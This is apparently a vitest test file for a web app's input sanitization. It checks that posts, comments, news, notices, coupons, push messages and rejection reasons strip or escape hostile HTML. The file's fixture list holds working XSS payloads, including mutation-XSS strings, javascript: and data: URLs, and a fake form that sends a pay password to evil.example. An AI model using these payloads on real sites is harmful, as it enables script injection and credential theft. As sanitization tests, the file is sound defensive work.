import { beforeAll, describe, expect, it } from 'vitest';
import { control } from '#contract/control/control.ts';
import { fund } from '#contract/fund.ts';
import { msg } from '#contract/msg.ts';
import { square } from '#contract/square.ts';
import { user } from '#contract/user/user.ts';
import { wallet } from '#contract/wallet.ts';
import { payPassword, personas } from '#fixtures/data/people.ts';
import { noise } from '#tests/support/pictures.ts';
import { testWorld, type Caller, type TestWorld } from '#tests/support/world.ts';

/** Attacks as they arrive in a request. The words around each must remain. */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">go</a>',
  '<a href="&#106;avascript:alert(1)">go</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">go</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form action="https://evil.example"><input name="payPassword"><button>Confirm</button></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">',
  '<p style="position:fixed;inset:0" class="tab-bar" id="root" onclick="alert(1)">x</p>',
  '<p>unclosed <b>and nested <i>to the end',
];

const active = /<(?!\/?(p|b|i|a)\b)|\son\w+=|javascript:|data:|style=|class=|id=|srcdoc/i;

let world: TestWorld;
let alice: Caller;
beforeAll(async () => {
  world = await testWorld({ fixture: 'basic' });
  alice = await world.as('alice');
});

describe('hostile HTML', () => {
  it.each(hostile)('is removed from posts when they are written: %s', async (html) => {
    const content = `before ${html} after`;
    const written = [
      await alice.ok(square.addTextPost, { content }),
      await alice.ok(square.addPost, { content, videoUrl: '/files/videos/river.mp4' }),
      await world.operator.ok(control.addManagedPost, { phone: personas.bob.phone, content }),
    ];
    for (const { id, content: answered } of written) {
      expect(answered).toMatch(/^before/);
      expect(answered).not.toMatch(active);
      const changed = await world.operator.ok(control.changePost, { id, content });
      expect(changed.content).toBe(answered);
    }
    const { list } = await world.guest.ok(square.posts, { pageSize: 3 });
    expect(list.map((post) => post.content)).toEqual(written.map((post) => post.content).reverse());
  });

  it.each(hostile)('is shown as plain text in comments: %s', async (content) => {
    const { id: squareId } = await alice.ok(square.addTextPost, { content: `About ${content}` });
    const said = await alice.ok(square.comment, { squareId, content });
    expect(said.content).not.toMatch(/[<>"']/);
    const { list } = await world.guest.ok(square.comments, { squareId });
    expect(list).toEqual([said]);
    const read = said.content
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&quot;/g, '"')
      .replace(/&#39;/g, "'")
      .replace(/&amp;/g, '&');
    expect(read).toBe(content);
  });

  it.each(hostile)('is removed from plain text, including its tags: %s', async (html) => {
    const hidden = html.replace(/&/g, '&amp;').replace(/</g, '&lt;');
    const text = `before ${html} ${hidden} after 1 < 2`;
    const clean = expect.stringMatching(/^before\b[^<]*(1 < 2)?$/) as string;
    const { operator } = world;
    const { phone } = personas.bob;
    const bob = await world.as('bob');

    await alice.ok(user.feedback, { content: text });
    expect((await operator.ok(control.feedback)).list[0]).toMatchObject({ content: clean });

    const news = { title: text, summary: { 'en-US': text, 'hi-IN': text }, content: text };
    const { id } = await operator.ok(control.addNews, news);
    const kept = { title: clean, summary: { 'en-US': clean, 'hi-IN': clean } };
    expect(await operator.ok(control.changeNews, { id, title: text })).toMatchObject(kept);
    expect((await world.guest.ok(user.news)).list[0]).toMatchObject({ title: clean, summary: clean });
    expect((await bob.ok(msg.messages)).list[0]).toMatchObject({ body: clean });

    const notice = await operator.ok(control.addNotice, { kind: 'popup', title: text, content: text });
    expect(notice.title).toEqual(clean);
    expect(notice.content).not.toMatch(/<(?!\/?(p|b|i|a)\b)|<[^>]* (on\w+|style|class|id)=/i);
    const changed = await operator.ok(control.changeNotice, { id: notice.id, title: text, content: text });
    expect(changed).toEqual(notice);
    await operator.ok(control.removeNotice, { id: notice.id });

    const coupon = await operator.ok(control.addCoupon, { title: text, amount: '1', validDays: 1 });
    expect(coupon.title).toEqual(clean);
    await operator.ok(control.push, { phone, title: text.slice(0, 200), body: text });
    const [pushed] = (await bob.ok(msg.messages)).list;
    expect(pushed?.title).toMatch(/^before\b/);
    expect(pushed?.title).not.toMatch(/<\/?[a-z]/i);
    expect(pushed?.body).toEqual(clean);

    await operator.ok(control.grant, { phone, kind: 'bonus', amount: '1', note: text.slice(0, 200) });
    const [granted] = (await bob.ok(wallet.records)).list;
    expect(granted?.description).not.toMatch(/<\/?[a-z]/i);
    expect(granted?.description).toMatch(/^Bonus: before/);
  });

  it('is removed from the reasons that a member reads', async () => {
    const { operator } = world;
    const reason = '<img src=x onerror=alert(1)>Not &lt;b&gt;yours';
    await world.setParams({ rechargeChannels: ['usdt', 'cash'] });
    const { id } = await alice.ok(fund.recharge, { channel: 'cash', amount: '1000' });
    const reject = { decision: 'reject', reason } as const;
    expect(await operator.ok(control.decideRecharge, { id, ...reject })).toMatchObject({
      reason: 'Not yours',
    });
    const [binding] = await alice.ok(fund.bindings);
    const to = { amount: '5', bindingId: binding?.id ?? '', payPassword };
    const withdrawal = await alice.ok(wallet.withdraw, to);
    expect(await operator.ok(control.decideWithdrawal, { id: withdrawal.id, ...reject })).toMatchObject({
      reason: 'Not yours',
    });
    const file = await noise(200, 200).png().toBuffer();
    await alice.ok(user.groupJoin, {}, { file });
    const [join] = await operator.ok(control.groupJoins);
    await operator.ok(control.decideGroupJoin, { id: join?.id ?? '', ...reject });
    expect(await alice.ok(user.groupStatus)).toMatchObject({ reason: 'Not yours' });
  });

  it('is rejected in names', async () => {
    for (const name of ['<b>Al</b>', 'Al<', '<svg onload=a>', 'Al\u0000', '\u202eecilA'])
      await alice.refused(user.rename, { name }, 'BAD_INPUT');
  });

  it('is rejected as control characters, while line breaks are kept', async () => {
    for (const content of ['a\u0000b', 'a\u001bb', 'a\ufffdb'])
      await alice.refused(square.addTextPost, { content }, 'BAD_INPUT');
    expect((await alice.ok(square.addTextPost, { content: 'one\ntwo' })).content).toBe('one\ntwo');
  });
});
